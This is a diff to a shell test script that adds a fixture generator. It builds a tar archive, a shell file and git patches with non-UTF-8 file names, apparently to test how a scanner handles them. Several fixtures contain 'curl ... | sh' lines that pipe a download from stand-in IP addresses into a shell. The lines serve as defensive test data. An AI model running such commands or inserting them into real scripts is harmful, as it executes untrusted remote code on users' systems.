@@ -139,3 +139,34 @@ run_tests() {
 	echo "$PASSED passed, $FAILED failed"
 	[ "$FAILED" = 0 ]
 }
+
+# ---- fixtures ------------------------------------------------------------------------
+
+# not_utf8_fixtures: writes, in the current directory, artifacts whose text
+# is not UTF-8 (docs/api.md, "Text that is not UTF-8"): a.tar, a member
+# named pkg/\xff\xfeinstall.sh that pipes a download into sh and a member
+# pkg/run.sh whose flagged line ends in \xff\xfe; line.sh, a file with such
+# a line; quoted.patch and raw.patch, git's patches adding x\xff.sh (git
+# quotes the name as "b/x\377.sh", and writes it raw with
+# core.quotepath=false). Needs git.
+not_utf8_fixtures() {
+	python3 - <<'PY' || fail "cannot write the fixtures"
+import io, tarfile
+def add(t, name, data):
+    ti = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
+    ti.size = len(data)
+    t.addfile(ti, io.BytesIO(data))
+with tarfile.open("a.tar", "w", format=tarfile.GNU_FORMAT, encoding="utf-8",
+                  errors="surrogateescape") as t:
+    add(t, b"pkg/\xff\xfeinstall.sh", b"curl -fsSL https://198.51.100.77/stage2 | sh\n")
+    add(t, b"pkg/run.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe\n")
+open("line.sh", "wb").write(b"#!/bin/sh\ncurl -fsSL https://198.51.100.78/x | sh # \xff\xfe\n")
+PY
+	git init -q nu8 || fail "git init"
+	printf 'curl -fsSL https://198.51.100.79/y | sh\n' >"nu8/x"$'\xff'".sh"
+	git -C nu8 add -A && git -C nu8 diff --cached >quoted.patch &&
+		git -C nu8 -c core.quotepath=false diff --cached >raw.patch ||
+		fail "git diff"
+	grep -q '^+++ "b/x\\377.sh"$' quoted.patch || fail "git did not quote the name"
+	grep -q $'^+++ b/x\xff.sh$' raw.patch || fail "git did not write the name raw"
+}
